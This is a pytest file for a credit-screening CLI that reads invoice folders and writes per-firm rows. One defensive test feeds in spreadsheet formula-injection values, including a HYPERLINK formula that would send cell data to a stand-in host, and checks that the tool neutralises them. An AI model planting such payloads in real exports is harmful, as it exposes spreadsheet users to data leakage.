"""`creditlink screen invoices`: a folder of invoices to a row per firm, without a database."""

import json
from datetime import date, datetime

import polars as pl
import pytest
from click.testing import CliRunner

from creditlink.cli.screening.screen import screen
from creditlink.engine.features.catalogue import BY_NAME
from creditlink.kit.settings import load_settings
from creditlink.profiles.serving.live import load_live
from creditlink.records.files.invoice_folder import FIRMS_FILE, INVOICE_FILES, read_invoice_folder
from creditlink.screening.invoices import screen_invoices, write_rows

pytestmark = pytest.mark.pure

AS_OF = date(2020, 1, 15)


def invoices_of(firm, months, amount=100_000.0):
    rows = []
    for k in range(months):
        year, month = divmod(2019 * 12 + 11 - k, 12)
        for number in range(3):
            rows.append(
                {
                    "firm": firm,
                    "invoice_no": f"{firm}{k}{number}",
                    "date": datetime(year, month + 1, 5 + number),  # noqa: DTZ001 (the layout has no zone)
                    "counterparty": f"C{number}",
                    "amount": amount,
                    "tax": amount * 0.13,
                    "total": amount * 1.13,
                    "status": "valid",
                }
            )
    return rows


@pytest.fixture
def folder(tmp_path):
    def written(rows):
        path = tmp_path / "invoices"
        path.mkdir()
        (path / FIRMS_FILE).write_text("firm,name\nE1,某某商贸公司\nE2,个体经营E2\nE3,某某公司\n")
        for name in INVOICE_FILES.values():
            pl.DataFrame(rows).write_parquet(path / name)
        return path

    return written


@pytest.fixture
def run(tmp_path):
    def called(folder, out="firms.parquet", day=AS_OF, *words):
        return CliRunner().invoke(
            screen, ["invoices", str(folder), "--as-of", str(day), "--out", str(tmp_path / out), *words]
        )

    return called


HONEST = [*invoices_of("E1", 30), *invoices_of("E2", 14, 20_000.0)]


def test_the_table_of_indicators_has_a_row_for_each_firm(folder, run, tmp_path):
    path = folder(HONEST)
    done = run(path, "firms.csv", AS_OF, "--indicators", str(tmp_path / "table.parquet"))
    assert done.exit_code == 0, done.output
    table = pl.read_parquet(tmp_path / "table.parquet")
    assert table.columns == ["firm", "as_of", *BY_NAME]
    assert table["sales_36_fen"][0] == 30 * 3 * 100_000_00
    refused = run(path, "firms.csv", AS_OF, "--indicators", str(tmp_path / "table.xls"))
    assert refused.exit_code == 2
    assert "--indicators" in refused.output


def test_a_source_that_nobody_asked_is_not_connected(folder, run, tmp_path):
    done = run(folder(HONEST))
    assert done.exit_code == 0, done.output
    told = " ".join(t for t in pl.read_parquet(tmp_path / "firms.parquet")["reason_4_en"].drop_nulls())
    assert "has no record" not in told


def test_every_firm_of_the_list_gets_a_row_with_reasons_and_coverage(folder, run, tmp_path):
    done = run(folder(HONEST))
    assert done.exit_code == 0, done.output
    rows = {row["firm"]: row for row in pl.read_parquet(tmp_path / "firms.parquet").to_dicts()}
    assert (rows["E1"]["state"], rows["E2"]["state"], rows["E3"]["state"]) == ("scored", "scored", "not_scorable")
    assert 0 < rows["E1"]["pd_12m"] < 1
    assert rows["E3"]["grade"] is None
    assert (rows["E1"]["sales_months"], rows["E2"]["purchase_months"], rows["E3"]["sales_months"]) == (30, 14, 0)
    assert rows["E1"]["indicator.invoiced_12_fen"] == 12 * 3 * 100_000_00
    assert "social_security" in rows["E1"]["missing"]
    assert rows["E2"]["human_review"]  # a sole trader
    # Invoices say nothing of registers, courts and lists: no knock-out was looked at.
    assert {row["not_evaluated"] for row in rows.values()} == {"K01 K02 K03 K04 K05"}
    assert rows["E1"]["reason_1_zh"]


def test_no_reason_speaks_of_what_the_folder_does_not_say(folder):
    read = read_invoice_folder(folder(HONEST))
    frame = screened(read).frame
    assert frame["indicator.age_months"].null_count() == 3
    told = frame.select(pl.concat_str(pl.col("^reason_._en$"), separator=" ", ignore_nulls=True)).to_series().to_list()
    assert not any("Months since registration:" in text for text in told)


@pytest.mark.parametrize("zone", ["Asia/Shanghai", "UTC"])
def test_instants_are_days_of_shanghai(folder, zone):
    path = folder(HONEST)
    plain = read_invoice_folder(path)
    for name in INVOICE_FILES.values():
        instants = pl.col("date").dt.month_start().dt.replace_time_zone("Asia/Shanghai").dt.convert_time_zone(zone)
        pl.read_parquet(path / name).with_columns(instants).write_parquet(path / name)
    months = read_invoice_folder(path).invoices["issued_on"].dt.month_start()
    assert months.equals(plain.invoices["issued_on"].dt.month_start())
    assert screened(read_invoice_folder(path)).frame["sales_months"].to_list() == [30, 14, 0]


def test_no_name_is_a_formula_in_what_is_written(folder, run, tmp_path):
    path = folder([*HONEST, {**HONEST[0], "status": "=1+1"}])
    (path / FIRMS_FILE).write_text('firm,name\nE1,"=HYPERLINK(""http://x/?""&A1)"\nE2,@SUM(1)|甲\nE3,＝1\n')
    done = run(path, "firms.csv", AS_OF, "--rejects", str(tmp_path / "left_out.csv"))
    assert done.exit_code == 0, done.output
    names = pl.read_csv(tmp_path / "firms.csv")["name"].to_list()
    assert names == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1)|甲", "'＝1"]
    assert pl.read_csv(tmp_path / "firms.csv")["pd_12m"].dtype == pl.Float64
    assert pl.read_csv(tmp_path / "left_out.csv")["value"].to_list() == ["'=1+1", "'=1+1"]


@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-8-sig"])
def test_the_list_of_firms_is_read_as_spreadsheets_write_it(folder, encoding):
    path = folder(HONEST)
    (path / FIRMS_FILE).write_bytes("firm,name\rE1,甲公司\rE2,乙公司,\rE3,丙\0\r".encode(encoding))
    read = read_invoice_folder(path)
    assert read.firms.rows() == [("E1", "甲公司")]
    assert read.rejects.filter(pl.col("file") == FIRMS_FILE)["row", "field"].rows() == [(1, "line"), (2, "name")]


def screened(read, day=AS_OF):
    live = load_live(load_settings())
    return screen_invoices(read, day, live=live, book=book())


def book():
    from creditlink.engine.features.catalogue import BY_NAME
    from creditlink.engine.matching.book import compile_book
    from creditlink.products.service import matching_settings

    return compile_book((), BY_NAME, matching_settings(load_settings().config_dir), on=AS_OF)


def test_the_future_is_not_read(folder):
    path, day = folder(HONEST), date(2019, 7, 1)
    early = screened(read_invoice_folder(path), day)
    for name in INVOICE_FILES.values():
        pl.DataFrame([row for row in HONEST if row["date"].date() < day]).write_parquet(path / name)
    known_only = screened(read_invoice_folder(path), day)
    assert (early.later > 0, known_only.later) == (True, 0)
    assert early.frame.equals(known_only.frame)


def test_dirty_rows_are_reported_with_file_column_and_row_and_the_rest_is_read(folder, run, tmp_path):
    dirty = [dict(HONEST[0], total=1.0), dict(HONEST[1], status="maybe"), *HONEST[2:]]
    done = run(folder(dirty), "firms.csv", AS_OF, "--rejects", str(tmp_path / "left_out.csv"))
    assert done.exit_code == 0, done.output
    name = INVOICE_FILES["output"]
    assert f"{name}: column total: 1 rows left out, not the sum of amount and tax (first in row 0" in done.stderr
    assert f"{name}: column status: 1 rows left out" in done.stderr
    assert pl.read_csv(tmp_path / "left_out.csv").height == 4
    frame = pl.read_csv(tmp_path / "firms.csv")
    assert frame.filter(firm="E1")["rows_left_out"].to_list() == [4]


def test_later_invoices_are_counted(folder, run):
    done = run(folder(HONEST), day=date(2019, 12, 1))
    assert "invoices are dated after 2019-12-01 and were not read" in done.stderr


def test_json_holds_the_same_rows(folder, run, tmp_path):
    assert run(folder(HONEST), "firms.json").exit_code == 0
    assert [row["firm"] for row in json.loads((tmp_path / "firms.json").read_text())] == ["E1", "E2", "E3"]


def test_a_wrong_folder_or_suffix_ends_before_work_and_writes_nothing(folder, run, tmp_path):
    path = folder(HONEST)
    assert "must be one of .parquet, .csv, .json" in run(path, "firms.xlsx").output
    (path / INVOICE_FILES["input"]).unlink()
    done = run(path)
    assert done.exit_code == 1
    assert INVOICE_FILES["input"] in done.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["invoices"]


def test_a_write_that_fails_leaves_the_former_result(tmp_path, monkeypatch):
    out = tmp_path / "firms.csv"
    out.write_text("former")
    monkeypatch.setattr(pl.DataFrame, "write_csv", lambda *_, **__: (_ for _ in ()).throw(OSError("disk full")))
    with pytest.raises(OSError, match="disk full"):
        write_rows(pl.DataFrame({"a": [1]}), out)
    assert [p.name for p in tmp_path.iterdir()] == ["firms.csv"]
    assert out.read_text() == "former"
